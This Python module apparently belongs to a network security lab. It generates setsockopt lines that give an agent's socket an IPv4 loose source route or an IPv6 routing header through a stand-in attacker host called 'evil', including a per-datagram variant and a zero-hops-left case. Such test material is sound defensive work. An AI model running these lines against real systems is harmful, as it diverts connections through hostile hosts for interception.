"""Lines for an agent by which a socket of its own gets a source route."""

from __future__ import annotations

from .lab import V4, V6, Network

IPV6_RTHDR, IPV6_TCLASS, IP_RETOPTS = 57, 67, 7
OPTIONS = {V4: (0, 4), V6: (41, IPV6_RTHDR)}
"""Level and number of the option that has a route: IP_OPTIONS, IPV6_RTHDR."""
_LOOSE, _SEGMENTS = bytes([1, 131, 7, 4]), bytes([0, 4, 4, 1, 1, 0, 0, 0])


def set_route(end: str, network: Network, final: str) -> str:
    """A line that has `end` send by way of evil; over IPv6 any user can."""
    level, option = OPTIONS[network]
    return f"{end}.setsockopt({level}, {option}, {route(network, final)})"


def by_way_of_evil(end: str, network: Network, final: str) -> list[str]:
    """Lines that give a connection a source route, and have the kernel look for its way anew."""
    return [set_route(end, network, final), look_anew(end, network)]


def look_anew(end: str, network: Network) -> str:
    """A line that has the kernel look for the way of a connection anew."""
    return f"{end}.setsockopt(0, 1, 8)" if network is V4 else f"{end}.setsockopt(41, {IPV6_TCLASS}, 4)"


def message_by_way_of_evil() -> str:
    """A control message that does the same to one datagram; over IPv6 many kernels take none."""
    return f"(0, {IP_RETOPTS}, {route(V4, V4.peer)})"


def to_evil_at_last(end: str) -> str:
    """A line that gives a socket a route of which no hop is left: the kernel goes by it all the same."""
    header = f"bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, '{V6.evil}')"
    return f"{end}.setsockopt(socket.IPPROTO_IPV6, {IPV6_RTHDR}, {header})"


def route(network: Network, final: str) -> str:
    """The option's value, by way of evil."""
    if network is V4:
        return f"{_LOOSE!r} + socket.inet_aton('{V4.evil}')"
    hops = " + ".join(f"socket.inet_pton(socket.AF_INET6, '{hop}')" for hop in (final, V6.evil))
    return f"{_SEGMENTS!r} + {hops}"
